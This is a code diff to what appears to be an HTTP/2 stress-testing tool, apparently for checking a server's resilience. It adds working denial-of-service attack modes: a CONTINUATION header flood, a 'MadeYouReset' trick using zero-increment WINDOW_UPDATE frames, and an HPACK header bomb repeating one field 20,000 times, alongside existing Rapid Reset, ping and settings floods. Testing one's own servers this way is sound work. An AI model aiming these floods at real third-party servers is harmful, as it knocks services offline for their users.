@@ -38,6 +38,12 @@ pub(super) enum Kind {
     EmptyData,
     /// Windows that are opened by a byte each
     Windows,
+    /// A head that goes on and on: CONTINUATION
+    Continuations,
+    /// Requests that the server has to take back: `MadeYouReset`
+    MadeReset,
+    /// Heads of a field that is repeated 20,000 times, in a byte each, by who takes no answer
+    Bomb,
 }
 
 impl Kind {
@@ -58,6 +64,7 @@ impl Kind {
         match self {
             Self::Nobody | Self::SlowHead | Self::SlowBody | Self::HalfOpen | Self::Connections => "connections",
             Self::SlowReader => "answers begun",
+            Self::Bomb => "requests",
             _ => "frames",
         }
     }
@@ -76,8 +83,16 @@ const RESET: u8 = 3;
 const SETTINGS: u8 = 4;
 const PING: u8 = 6;
 const WINDOW_UPDATE: u8 = 8;
+const CONTINUATION: u8 = 9;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
+
+/// In SETTINGS: that nothing may be sent on a stream.
+const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
+
+/// A field of its own, to be remembered, and the same once more.
+const FIELD: &[u8] = b"\x40\x03x-a\x01y";
+const AGAIN: u8 = 0xbe;
 
 /// Goes on for so long, and prints how much it has done.
 pub(super) fn run(kind: Kind, addr: SocketAddr, token: &str, length: Duration) -> io::Result<()> {
@@ -178,28 +193,42 @@ impl Attacker {
         let (mut answers, mut stream) = TcpStream::connect(self.addr).await?.into_split();
         spawn_local(async move { copy(&mut answers, &mut sink()).await });
         stream.write_all(PREFACE).await?;
-        // To a body there has to be a request.
-        let post = self.request(3);
-        stream.write_all(&frame(HEADERS, END_HEADERS, 1, &post)).await?;
-        let (get, mut next) = (self.request(2), 3);
-        loop {
-            let mut batch = Vec::new();
-            for _ in 0..BATCH {
-                match kind {
+        let (get, post) = (self.request(2), self.request(3));
+        let beginning = match kind {
+            Kind::Bomb => frame(SETTINGS, 0, 0, &NO_WINDOW),
+            Kind::Continuations => frame(HEADERS, END_STREAM, 1, &get),
+            // To a body there has to be a request.
+            _ => frame(HEADERS, END_HEADERS, 1, &post),
+        };
+        stream.write_all(&beginning).await?;
+        for next in (3..).step_by(2 * BATCH) {
+            let streams = (next..).step_by(2).take(if kind == Kind::Bomb { 1 } else { BATCH });
+            let batch: Vec<Vec<u8>> = streams
+                .map(|stream| match kind {
                     Kind::RapidReset => {
-                        batch.extend(frame(HEADERS, END_STREAM | END_HEADERS, next, &get));
-                        batch.extend(frame(RESET, 0, next, &8_u32.to_be_bytes()));
-                        next += 2;
+                        let request = frame(HEADERS, END_STREAM | END_HEADERS, stream, &get);
+                        [request, frame(RESET, 0, stream, &8_u32.to_be_bytes())].concat()
                     }
-                    Kind::Pings => batch.extend(frame(PING, 0, 0, b"are you?")),
-                    Kind::Settings => batch.extend(frame(SETTINGS, 0, 0, &[])),
-                    Kind::EmptyData => batch.extend(frame(DATA, 0, 1, &[])),
-                    _ => batch.extend(frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes())),
-                }
-            }
-            stream.write_all(&batch).await?;
-            self.count(BATCH);
+                    Kind::MadeReset => {
+                        let request = frame(HEADERS, END_HEADERS, stream, &post);
+                        [request, frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
+                    }
+                    Kind::Bomb => {
+                        let head = [&get, FIELD, &[AGAIN; 16_000]].concat();
+                        let rest = frame(CONTINUATION, END_HEADERS, stream, &[AGAIN; 4000]);
+                        [frame(HEADERS, END_STREAM, stream, &head), rest].concat()
+                    }
+                    Kind::Continuations => frame(CONTINUATION, 0, 1, FIELD),
+                    Kind::Pings => frame(PING, 0, 0, b"are you?"),
+                    Kind::Settings => frame(SETTINGS, 0, 0, &[]),
+                    Kind::EmptyData => frame(DATA, 0, 1, &[]),
+                    _ => frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes()),
+                })
+                .collect();
+            stream.write_all(&batch.concat()).await?;
+            self.count(batch.len());
         }
+        Ok(())
     }
 
     /// The fields of a request whose method has this number in the static table.
